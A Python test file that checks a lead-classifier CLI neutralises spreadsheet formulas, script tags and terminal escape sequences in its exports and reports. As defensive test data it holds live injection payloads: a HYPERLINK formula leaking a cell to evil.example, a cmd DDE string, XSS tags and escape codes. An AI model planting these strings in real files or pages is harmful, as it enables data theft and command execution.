"""Issue 12, spreadsheet and CSV injection: hostile notes, names and headers come out neutralised.

Every input is a small file generated in ``tmp_path``; the commands run through the real CLI.
"""

import copy
import csv
import dataclasses
import io
import json
import re
import warnings
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from cli import cli
from classifier.exports.text_safety import LINE_BREAKS
from classifier.exports.writer import write_table
from classifier.reports import render
from classifier.taxonomy import Taxonomy, default_taxonomy
from simulate import simulate_rejections, write_export

SEED = Path(__file__).parent / "data" / "seed_notes.csv"
FORMULA_HEADER = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
BREAKS = list(LINE_BREAKS)  # CR LF VT FF FS GS RS NEL LS PS
XSS_OWNER = '<script>alert(1)</script> [x](javascript:alert(1)) | ![](http://t.example/p.png) <img src=x onerror=alert(2)>'
ESC_OWNER = "Tom\x1b[2J\x1b]0;pwned\x07 Becker\u202e"
ESC_SOURCE = "Web|inar\x1b[31m\x9b2J <b>x</b>"
TERMINAL_NASTIES = ("\x1b", "\x07", "\x9b", "\u202e", "pwned", "[2J")


def invoke(*args, color=False):
    return CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False, color=color)


def xlsx_formulas(path: Path) -> list[str]:
    """Every ``<f>`` element in the workbook's sheets: a spreadsheet would run it."""
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        return [f for n in sheets for f in re.findall(r"<f[ >].*?</f>|<f/>", book.read(n).decode("utf-8"))]


def unquoted(text: str) -> str:
    """The raw CSV text with every quoted field removed: what a reader sees outside quotes."""
    return re.sub(r'"(?:[^"]|"")*"', '""', text)


def hostile_export(path: Path, rows: int = 12) -> Path:
    """A CRM export whose fourth header is a formula and whose notes hold every line break before a formula."""
    notes = ["kein Budget dieses Jahr", "nicht der Entscheider, Chef entscheidet", "zu früh, erst Q3 wieder melden",
             "already using HubSpot", "no need right now", "Student, Masterarbeit"]
    lines = [["Record ID", "Lead Status", "Lead Owner", FORMULA_HEADER, "Unqualified Reason"]]
    for i in range(rows):
        brk = BREAKS[i % len(BREAKS)]
        lines.append([str(1000 + i), "Unqualified", "=HYPERLINK(\"http://x\")" if i == 0 else "Eva",
                      "=1+1", f"{notes[i % len(notes)]}{brk}=cmd|' /C calc'!A0 {i}"])
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(lines)
    return path


# --- 1. line breaks are quoted, so no cell starts a row of its own -------------------------------------------


@pytest.mark.parametrize("brk", BREAKS, ids=[f"U+{ord(b):04X}" for b in BREAKS])
@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_every_line_break_is_quoted_in_csv_and_tsv(tmp_path, brk, suffix):
    out = tmp_path / f"out{suffix}"
    write_table(pd.DataFrame({"id": ["1", "2"], "note": [f"kein Budget{brk}=1+2", "=3"]}), out)
    raw = out.read_bytes().decode("utf-8")  # no newline translation: a bare CR stays a CR
    outside = unquoted(raw)
    assert not any(b in outside for b in BREAKS if b != "\n"), repr(raw)
    assert outside.count("\n") == 3  # header and two rows, nothing split off
    sep = "\t" if suffix == ".tsv" else ","
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter=sep))
    assert rows == [["id", "note"], ["1", f"kein Budget{brk}=1+2"], ["2", "'=3"]]


def test_classify_quotes_a_bare_carriage_return_in_a_note(tmp_path):
    source = hostile_export(tmp_path / "export.csv")
    out = tmp_path / "classified.csv"
    assert invoke("classify", source, "-o", out).exit_code == 0
    raw = out.read_bytes().decode("utf-8")  # no newline translation: a bare CR stays a CR
    outside = unquoted(raw)
    assert "\r" not in outside and not any(b in outside for b in BREAKS if b != "\n")
    assert outside.count("\n") == 13  # the header and twelve rows, however the notes break
    assert not any(line.startswith(("=", "+", "-", "@")) for line in outside.split("\n"))


def test_jsonl_escapes_unicode_line_breaks(tmp_path):
    out = tmp_path / "out.jsonl"
    write_table(pd.DataFrame({"note": ["a\u2028b\x85c\u2029d"]}), out)
    raw = out.read_text(encoding="utf-8")
    assert len(raw.splitlines()) == 1 and json.loads(raw)["note"] == "a\u2028b\x85c\u2029d"


# --- 2. header cells are neutralised like data cells; XLSX never holds a formula -------------------------------


def _check_table(path: Path, header: str | None = FORMULA_HEADER):
    """The written table holds no live formula: XLSX has no <f>, CSV/TSV cells start with an apostrophe."""
    if path.suffix == ".xlsx":
        assert xlsx_formulas(path) == []
        from openpyxl import load_workbook

        sheet = load_workbook(path).active
        cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
        assert all(c.data_type == "s" for c in cells if c.value.startswith("="))
        if header:
            assert header in [c.value for c in next(sheet.iter_rows())]
        return
    raw = path.read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline=""), delimiter="\t" if path.suffix == ".tsv" else ","))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    if header:
        assert "'" + header in rows[0]


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
def test_classify_neutralises_a_formula_header(tmp_path, suffix):
    out = tmp_path / f"classified{suffix}"
    assert invoke("classify", hostile_export(tmp_path / "export.csv"), "-o", out).exit_code == 0
    _check_table(out)


def test_classify_to_stdout_neutralises_a_formula_header(tmp_path):
    result = invoke("classify", hostile_export(tmp_path / "export.csv"))
    assert result.exit_code == 0
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert "'" + FORMULA_HEADER in header and FORMULA_HEADER not in header


def test_classify_jsonl_keeps_a_formula_header_as_a_plain_key(tmp_path):
    out = tmp_path / "classified.jsonl"
    assert invoke("classify", hostile_export(tmp_path / "export.csv"), "-o", out).exit_code == 0
    first = json.loads(out.read_text(encoding="utf-8").splitlines()[0])
    assert first[FORMULA_HEADER] == "=1+1"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_review_queue_neutralises_a_formula_header(tmp_path, seed_model_dir, suffix):
    out = tmp_path / f"queue{suffix}"
    result = invoke("review-queue", hostile_export(tmp_path / "export.csv"), "-n", 5, "--model", seed_model_dir, "-o", out)
    assert result.exit_code == 0, result.output
    _check_table(out)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_audit_neutralises_a_formula_header(tmp_path, suffix):
    frame = pd.read_csv(SEED, dtype=str, keep_default_na=False)
    frame[FORMULA_HEADER] = "=1+1"
    flipped = frame.index[:6]
    frame.loc[flipped, "label"] = frame.loc[flipped[::-1], "label"].to_numpy()
    data = tmp_path / "labels.csv"
    frame.to_csv(data, index=False)
    out = tmp_path / f"suspicious{suffix}"
    result = invoke("audit", data, "-o", out)
    assert result.exit_code == 0, result.output
    _check_table(out)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_challenge_output_holds_no_formula(tmp_path, seed_model_dir, suffix):
    out = tmp_path / f"reopen{suffix}"
    result = invoke("challenge", hostile_export(tmp_path / "export.csv"), "--model", seed_model_dir, "-o", out)
    assert result.exit_code == 0, result.output
    _check_table(out, header=None)


def test_xlsx_header_is_text_not_a_formula(tmp_path):
    out = tmp_path / "out.xlsx"
    write_table(pd.DataFrame({FORMULA_HEADER: ["=1+1"], "@SUM(A1)": ["+1"]}), out)
    assert xlsx_formulas(out) == []
    from openpyxl import load_workbook

    header = [(c.value, c.data_type) for c in next(load_workbook(out).active.iter_rows())]
    assert header == [(FORMULA_HEADER, "s"), ("@SUM(A1)", "s")]


# --- 3 and 4. reports: Markdown escapes data, the terminal gets no control sequences --------------------------


@pytest.fixture(scope="module")
def hostile_report_export(tmp_path_factory):
    """The planted-effects export with a script-and-link owner (who has an alert) and escape-sequence names."""
    frame = simulate_rejections(11, planted=True)
    frame["owner"] = frame["owner"].replace({"Maria Schneider": XSS_OWNER, "Tom Becker": ESC_OWNER})
    frame["source"] = frame["source"].replace({"Webinar": ESC_SOURCE})
    path = tmp_path_factory.mktemp("hostile") / "export.csv"
    write_export(frame, path, "en", seed=11)
    return path


def report_args(path, *extra):
    return ("report", path, "--period", "quarter", "--until", "2026-09-30", *extra)


def _markdown_html(text: str) -> str:
    markdown_it = pytest.importorskip("markdown_it")
    return markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)


def test_markdown_report_escapes_owner_and_source_names(hostile_report_export, tmp_path):
    out = tmp_path / "report.md"
    assert invoke(*report_args(hostile_report_export, "-o", out)).exit_code == 0
    text = out.read_text(encoding="utf-8")
    for raw in ("<script", "<img", "<b>", "\x1b", "\x07"):
        assert raw not in text, raw
    assert not re.search(r"(?<!\\)[\[\]]", text)  # every bracket escaped: no link, no image
    owners = text.split("## Owners against the rest of the team")[1].split("##")[0]
    rows = [line for line in owners.splitlines() if line.startswith("|")]
    assert all(len(re.split(r"(?<!\\)\|", row)) == 7 for row in rows)  # five cells, however many | in a name
    page = _markdown_html(text)
    assert "<script" not in page and "<img" not in page and "<a " not in page and "<b>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt; [x](javascript:alert(1)) | ![](http://t.example/p.png)" in page
    owner_rows = page.split("Owners against the rest of the team")[1].split("</table>")[0]
    assert all(row.count("<td>") == 5 for row in owner_rows.split("<tr>")[2:])


def test_markdown_escapes_label_titles_periods_notes_and_questions(hostile_report_export):
    report = json.loads(invoke(*report_args(hostile_report_export, "--format", "json")).stdout)
    data = dataclasses.asdict(default_taxonomy())
    labels = [{**r, "title_en": f"<img src=x onerror=alert(1)> {r['label']} | ![](http://t.example/{r['label']}.png)",
               "question_en": "[call](javascript:alert(1))"} for r in data["reasons"]]
    taxonomy = Taxonomy.from_dict({"name": "hostile", "labels": labels})
    report = copy.deepcopy(report)
    for p in report["periods"]:
        p["period"] = p["label"] = f"<script>{p.get('label', p['period'])}</script>|"  # names are shown by label
    report["challenge"] = [{"date": "2026-09-01", "owner": XSS_OWNER, "note": "[win](javascript:alert(1))\n# big\r|x",
                            "reason": "no_budget", "question": "", "follow_up": ""}]
    text = render(report, "markdown", taxonomy)
    for raw in ("<script", "<img", "\n# big"):
        assert raw not in text, raw
    assert not re.search(r"(?<!\\)[\[\]]", text)
    page = _markdown_html(text)
    assert "<script" not in page and "<img" not in page and "<a " not in page and "<h1>big" not in page
    assert page.count("<h1>") == 1
    periods = page.split("Reasons per period")[1].split("</table>")[0]
    columns = len(default_taxonomy().labels) + 3
    assert all(row.count("<td>") == columns for row in periods.split("<tr>")[2:])
    assert periods.count("&lt;script&gt;") == len(report["periods"]) and "&lt;/script&gt;|</td>" in periods


def test_html_report_stays_escaped(hostile_report_export, tmp_path):
    out = tmp_path / "report.html"
    assert invoke(*report_args(hostile_report_export, "-o", out)).exit_code == 0
    page = out.read_text(encoding="utf-8")
    assert "<script" not in page and "<img" not in page and "<b>x" not in page
    assert not re.search(r"(href|src)\s*=\s*['\"]?(javascript|https?):", page, re.I)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_html_report_draws_hostile_names_without_font_warnings(hostile_report_export, tmp_path):
    """Control characters in an owner's name never reach the charts' font (matplotlib would warn on stderr)."""
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert invoke(*report_args(hostile_report_export, "-o", tmp_path / "report.html")).exit_code == 0


def test_table_report_strips_escape_sequences_from_names(hostile_report_export):
    result = invoke(*report_args(hostile_report_export), color=True)
    assert result.exit_code == 0
    for nasty in TERMINAL_NASTIES:
        assert nasty not in result.stdout, repr(nasty)
    assert "Tom Becker" in result.stdout and "Web|inar <b>x</b>" in result.stdout


def test_colored_table_keeps_its_own_colours_but_no_data_sequences(hostile_report_export):
    report = json.loads(invoke(*report_args(hostile_report_export, "--format", "json")).stdout)
    report["periods"][0]["period"] = report["periods"][0]["label"] = "\x1b]0;pwned\x07Q4\r"
    text = render(report, "table", default_taxonomy(), color=True)
    assert "\x1b[1m" in text and "\x1b[1;31m" in text  # the report's own styling stays
    assert len(re.findall(r"\x1b\[[0-9;]*m", text)) == text.count("\x1b")  # and is the only escape sequence
    for nasty in ("\x1b]", "\x07", "\x9b", "\u202e", "pwned", "[2J", "\r"):
        assert nasty not in text, repr(nasty)


def test_notices_strip_escape_sequences_from_file_and_header_names(tmp_path):
    name = "leads\x1b]0;pwned\x07\x1b[2J\u202e.csv"
    rows = ["Record ID,Lead Status,Owner\u202eX\x9b2J,Owner\u202eX\x9b2J,Lost reason"]
    rows += [f"{i},Unqualified,Eva,b,nicht der Entscheider {i}" for i in range(60)]
    source = tmp_path / name
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = invoke("classify", source, "-o", tmp_path / "out.csv", color=True)
    assert result.exit_code == 0, result.output
    for nasty in TERMINAL_NASTIES:
        assert nasty not in result.stderr, repr(nasty)
    assert "leads.csv: read as UTF-8" in result.stderr and "renamed duplicate or empty headers: `OwnerX`" in result.stderr
